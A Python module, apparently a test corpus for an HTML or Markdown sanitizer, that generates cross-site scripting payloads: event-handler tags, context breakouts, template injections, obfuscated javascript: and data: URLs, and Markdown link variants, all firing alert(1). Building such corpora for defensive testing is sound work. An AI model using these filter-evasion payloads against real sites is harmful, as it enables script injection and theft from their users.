"""Shapes in which readers might try to bring script into a page; each calls `alert` if it runs."""

from __future__ import annotations

from itertools import product

_ELEMENTS = (
    "<script>alert(1)</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1) form=f>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<table background=javascript:alert(1)><td>x",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<base href=javascript:alert(1)//>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<p style='animation-name:x' onanimationstart=alert(1)>x</p>",
    "<x onclick=alert(1)>x</x>",
    "<p onmouseover=alert(1)>x</p>",
    "<p contenteditable onblur=alert(1) onfocus=alert(1)>x</p>",
)
_BREAKOUTS = (
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onclick=alert(1) x='",
    "` onclick=alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include 'x' %}{{ 7|safe }}<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    '\\"><script>alert(1)</script>',
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "%6aavascript:alert(1)",
    "javascript://beispiel.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert(1)",
    'https://beispiel.example/"onmouseover=alert(1) x="',
    "https://beispiel.example/'onmouseover='alert(1)",
    "https://beispiel.example/<script>alert(1)</script>",
    "https://beispiel.example\\@javascript:alert(1)",
    "//beispiel.example/x.js",
    "blob:https://beispiel.example/x",
)
_MARKDOWN = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "![x]({})",
    "[x]: {}\n\n[x]",
    '[x]({} "onmouseover=alert(1)")',
    "> [x]({})",
)


def _disguised(shape: str) -> tuple[str, ...]:
    """Return *shape* and what sloppy filters let through of it."""
    return (
        shape,
        shape.upper().replace("ALERT(1)", "alert(1)"),
        shape.replace(" ", "/", 1),
        shape.replace("<", "<<", 1),
        f"`{shape}",
    )


def shapes() -> list[str]:
    """Return all of them, each once."""
    found = [disguised for shape in _ELEMENTS for disguised in _disguised(shape)]
    found += _BREAKOUTS
    found += _ADDRESSES
    found += [form.format(address) for form, address in product(_MARKDOWN, _ADDRESSES)]
    return list(dict.fromkeys(found))
